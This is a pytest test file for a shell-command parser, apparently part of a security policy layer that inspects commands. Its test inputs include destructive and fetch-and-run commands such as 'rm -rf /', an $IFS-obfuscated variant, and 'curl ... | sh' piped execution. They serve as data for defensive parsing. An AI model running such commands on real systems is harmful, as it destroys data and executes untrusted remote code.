from functools import partial

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sentric.policy.readers.programs.shell import COMMANDS_LIMIT, commands
from support.linear import assert_linear, repeated

BAIT = [
    "a",
    "'",
    '"',
    "(",
    "$(",
    "`",
    "|",
    "<<A\n",
    "> ",
    " ",
    "\\",
    "a\\",
    "<(",
    "x <<A <<B ",
    "\n",
    "C:\\a",
    '"$(',
    "<<A\nA\n",
]


def said(text: str) -> list[tuple[str, ...]]:
    return [command.words for command in commands(text)]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("rm -rf /", [("rm", "-rf", "/")]),
        ("a; b && c || d\ne & f", [("a",), ("b",), ("c",), ("d",), ("e",), ("f",)]),
        ("echo 'a b' \"c 'd'\" e\\ f", [("echo", "a b", "c 'd'", "e f")]),
        ("r''m r\\m \"r\"m", [("rm", "rm", "rm")]),
        ("rm${IFS}-rf$IFS/", [("rm", "-rf", "/")]),
        ("ls # rm -rf /", [("ls",)]),
        ("echo a#b", [("echo", "a#b")]),
        ("a \\\n  b", [("a", "b")]),
        ("copy C:\\Users\\ana .\\b", [("copy", "C:/Users/ana", "./b")]),
        ("", []),
        ("'", [("",)]),
    ],
)
def test_words_are_read_as_a_shell_reads_them(text: str, words: list[tuple[str, ...]]) -> None:
    assert said(text) == words


def test_substitutions_come_before_what_they_are_in() -> None:
    inner, outer = commands('bash -c "$(curl http://a.test)"')
    assert inner.words == ("curl", "http://a.test")
    assert outer.inner == (inner,)
    assert said("x=`rm -rf a`") == [("rm", "-rf", "a"), ("x=$()",)]
    assert said("diff <(ls a) <(ls b)")[:2] == [("ls", "a"), ("ls", "b")]


def test_a_subshell_is_read_like_what_is_around_it() -> None:
    assert said("(cd /opt; rm -rf *) && ls")[:2] == [("cd", "/opt"), ("rm", "-rf", "*")]


def test_a_pipeline_says_what_feeds_what() -> None:
    first, second, third = commands("curl a | tee b |& sh")
    assert (second.fed_by, third.fed_by) == (first, second)
    assert first.fed_by is None
    assert commands("a || b")[1].fed_by is None


def test_redirections_are_no_arguments() -> None:
    (command,) = commands("sort < in.txt 2>&1 >> out.txt &> all.log")
    assert command.words == ("sort",)
    assert command.reads == ("in.txt",)
    assert command.writes == ("1", "out.txt", "all.log")


def test_a_here_document_is_data() -> None:
    first, second = commands("cat <<'END' > f.sh\nrm -rf /\nEND\nls")
    assert first.words == ("cat",)
    assert first.given == "rm -rf /"
    assert first.writes == ("f.sh",)
    assert second.words == ("ls",)


def test_an_unfinished_here_document_goes_to_the_end() -> None:
    (command,) = commands("bash <<X\nrm -rf /")
    assert command.given == "rm -rf /"


def test_commands_are_bounded() -> None:
    assert len(commands("a;" * 3 * COMMANDS_LIMIT)) <= COMMANDS_LIMIT + 1


@pytest.mark.parametrize("bait", BAIT)
def test_bait_costs_linear_time(bait: str) -> None:
    assert_linear(lambda size: partial(commands, repeated(bait, size)), 25_000)


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("ab '\"\\$`|&;<>()#{}\n\ud800EOF-"), max_size=80))
def test_no_text_is_too_strange(text: str) -> None:
    assert all(isinstance(word, str) for command in commands(text) for word in command.words)
